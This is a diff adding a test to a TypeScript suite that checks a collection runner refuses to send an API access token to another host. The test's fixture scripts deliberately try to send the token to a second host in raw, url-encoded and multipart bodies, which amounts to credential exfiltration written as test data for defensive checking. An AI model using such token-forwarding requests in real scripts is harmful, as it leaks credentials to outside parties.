@@ -118,6 +118,29 @@ describe('the server\'s token is not sent to another host', () => {
     expect(notice.message).toContain('1 request not sent (the URL or body held them)');
   });
 
+  it('a body that holds the token — raw, url-encoded or a multipart text field — is not sent to another host; a multipart body without it is', async () => {
+    const send = (path: string, body: string): string[] => [
+      `pm.sendRequest({ url: '${otherUrl}/${path}', method: 'GET', body: ${body} }, function (err, res) {`,
+      `  pm.test("${path}", function () { pm.expect(err ? 'refused: ' + err.message : 'sent ' + res.code).to.be.a('string'); console.log('${path}', err ? 'refused' : 'sent'); });`,
+      '});',
+    ];
+    const token = "pm.variables.get('accessToken')";
+    const file = writeFile(dir, 'bodies.json', collection('Bodies', [
+      request('jamf', '{{baseUrl}}/v1/buildings', {
+        tests: [
+          ...send('raw', `{ mode: 'raw', raw: JSON.stringify({ t: ${token} }) }`),
+          ...send('urlencoded', `{ mode: 'urlencoded', urlencoded: [{ key: 't', value: ${token} }] }`),
+          ...send('formdata', `{ mode: 'formdata', formdata: [{ key: 'note', value: 'hello' }, { key: 't', value: ${token} }] }`),
+          ...send('formdata-plain', `{ mode: 'formdata', formdata: [{ key: 'note', value: 'hello' }] }`),
+        ],
+      }),
+    ], { auth: bearer }));
+    const { summary, console: lines } = await runCaptured({ collections: [file], serverUrl: sim.url, credentials: { ...DEMO } });
+    expect(seen.map((s) => s.url)).toEqual(['/formdata-plain']);
+    expect(lines.map((l) => l.message).sort()).toEqual(['formdata refused', 'formdata-plain sent', 'raw refused', 'urlencoded refused']);
+    expect(summary.notices.find((n) => n.code === 'CREDENTIALS_KEPT')?.message).toContain('3 requests not sent (the URL or body held them)');
+  });
+
   it('a redirect from the server to another host loses a custom header that holds the token', async () => {
     const file = writeFile(dir, 'redirect.json', collection('Redirect', [
       request('jamf sends us elsewhere', '{{baseUrl}}/v1/out', { headers: { 'X-Jamf-Token': '{{accessToken}}' }, tests: expectStatus(200) }),
